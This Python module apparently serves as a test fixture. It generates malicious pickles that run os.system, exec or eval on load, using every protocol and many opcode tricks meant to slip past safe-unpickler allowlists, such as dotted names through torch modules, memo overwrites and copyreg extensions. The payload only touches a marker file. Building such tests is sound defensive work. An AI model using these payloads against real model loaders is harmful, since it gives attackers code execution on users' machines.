"""Pickles that run code when they are unpickled, of every protocol and in every way that pickle has to name things."""

from __future__ import annotations

import copyreg
import os
import pickle
import struct
from collections.abc import Callable, Iterator
from contextlib import contextmanager

_FILESYSTEM = "torch.distributed.checkpoint.filesystem"
_EXTENSION = 0xF0


class _Call:
    def __init__(self, function: Callable, *args: object) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> tuple:
        return self.function, self.args


def text(value: str) -> bytes:
    """The opcode for a short text."""
    encoded = value.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def named(module: str, name: str) -> bytes:
    """The opcodes for a class or function."""
    return text(module) + text(name) + b"\x93"


def called(function: bytes, argument: str) -> bytes:
    """The opcodes for a call with a text."""
    return function + text(argument) + b"\x85R"


@contextmanager
def extension() -> Iterator[None]:
    """`os.system` has a number of pickle's registry in the block."""
    copyreg.add_extension("os", "system", _EXTENSION)
    try:
        yield
    finally:
        copyreg.remove_extension("os", "system", _EXTENSION)


def pickles(marker: str) -> dict[str, bytes]:
    """By how they do it; `pickle.loads` of each makes a file at `marker`, in an `extension()`."""
    shell, python = f"touch {marker}", f"open({marker!r}, 'w').close()"
    line, start = shell.encode(), b"\x80\x04"
    system = named("os", "system")
    metadata = named("torch.distributed.checkpoint.metadata", "Metadata")
    found = {}
    for protocol in range(6):
        found[f"os.system, protocol {protocol}"] = pickle.dumps(_Call(os.system, shell), protocol)
        found[f"exec in a list, protocol {protocol}"] = pickle.dumps({"a": [_Call(exec, python)]}, protocol)
        found[f"eval, protocol {protocol}"] = pickle.dumps(_Call(eval, python), protocol)
    return found | {
        "INST": b"(S'" + line + b"'\nios\nsystem\n.",
        "OBJ": b"(cos\nsystem\nS'" + line + b"'\no.",
        "NEWOBJ": start + named("subprocess", "Popen") + b")\x81" + called(system, shell) + b"0.",
        "NEWOBJ_EX": start + named("zipfile", "ZipFile") + b")}\x92" + called(system, shell) + b"0.",
        "dotted": start + called(named(_FILESYSTEM, "os.system"), shell) + b".",
        "dotted, in lines": start + b"c" + _FILESYSTEM.encode() + b"\nos.system\n" + text(shell) + b"\x85R.",
        "dotted, through a class": start
        + called(named(_FILESYSTEM, "FileSystem.exists.__globals__.get"), "os")
        + b"0"
        + called(named(_FILESYSTEM, "os.system"), shell)
        + b".",
        "getattr": start
        + named("builtins", "getattr")
        + b"c"
        + b"importlib\nimport_module\n"
        + text("os")
        + b"\x85R"
        + text("system")
        + b"\x86R"
        + text(shell)
        + b"\x85R.",
        "names from the memo": start
        + text("os")
        + b"\x94"
        + text("system")
        + b"\x9400h\x00h\x01\x93"
        + text(shell)
        + b"\x85R.",
        "the memo, overwritten": start
        + text("torch")
        + b"q\x00"
        + text("os")
        + b"q\x0000h\x00"
        + text("system")
        + b"\x93"
        + text(shell)
        + b"\x85R.",
        "DUP": start + system + b"2" + text(shell) + b"\x85R.",
        "EXT1": start + b"\x82" + bytes([_EXTENSION]) + text(shell) + b"\x85R.",
        "EXT4": start + b"\x84" + struct.pack("<i", _EXTENSION) + text(shell) + b"\x85R.",
        "BUILD": start + metadata + b")\x81}" + text("version") + called(system, shell) + b"sb.",
        "BUILD with slots": start
        + metadata
        + b")\x81N}"
        + text("version")
        + called(named("builtins", "exec"), python)
        + b"s\x86b.",
        "as a key": start + b"}" + called(system, shell) + b"Ns.",
        "in a set": start + b"\x8f(" + called(system, shell) + b"\x90.",
        "in a frozenset": start + b"(" + called(system, shell) + b"\x91.",
        "after STOP of a frame": start + b"\x95" + struct.pack("<Q", 1) + b"N0" + called(system, shell) + b".",
        "torch.hub": start + b"ctorch.hub\nos.system\n" + text(shell) + b"\x85R.",
    }
